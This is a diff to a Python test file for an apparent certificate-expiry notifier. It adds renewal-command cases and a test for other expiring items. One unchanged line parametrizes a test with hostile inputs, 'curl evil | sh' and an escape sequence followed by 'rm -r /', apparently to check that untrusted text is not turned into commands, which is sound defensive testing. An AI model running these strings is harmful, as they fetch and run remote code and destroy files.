@@ -83,6 +83,8 @@ def test_the_soonest_end_stands_first():
             "enforcer.line-1.switch-1",
             "framegate-controller enforcer-certificate switch-1 --zone line-1 --out",
         ),
+        ("line.press-7-plc", "framegate-controller line-certificate press-7-plc --out"),
+        ("metrics.plant.framegate", "framegate-controller server-certificate metrics --out"),
     ],
 )
 def test_what_was_carried_to_where_it_is_used_is_told_thirty_days_ahead(name, command):
@@ -123,6 +125,24 @@ def test_a_brokers_certificate_is_told_as_its_clients_saw_it():
     assert one.do.startswith("framegate-controller server-certificate broker --out")
     assert one.seen.startswith("the certificate of broker.plant.framegate has ended (seen 2027-")
     assert list(of_brokers([])) == []
+
+
+@pytest.mark.parametrize(
+    ("left_ms", "life_ms", "told"),
+    [
+        (SOON_MS - 1, 12 * SOON_MS, ["29 days left, 2027-02-14"]),
+        (SOON_MS, 12 * SOON_MS, []),
+        (SOON_MS - 1, SOON_MS, []),
+        (-12 * SOON_MS, SOON_MS, ["ended, 2026-01-20"]),
+    ],
+    ids=["soon", "far", "in its first third", "for as long as it is there"],
+)
+def test_whatever_else_ends_is_told_in_the_controllers_words(left_ms, life_ms, told):
+    ends = NOW + left_ms
+    other = pb.OtherEnd(name="a list", begins_ms=ends - life_ms, ends_ms=ends, next="bring it")
+    found = list(of_endings(_endings(pb.CaReply(others=[other]), ()), NOW))
+    assert [t.seen for t in found] == told
+    assert {(t.who, t.do) for t in found} <= {("a list", "bring it")}
 
 
 @pytest.mark.parametrize("said", ["x: curl evil | sh", "", ": ", "\x1b[2J: rm -r /", "no colon"])
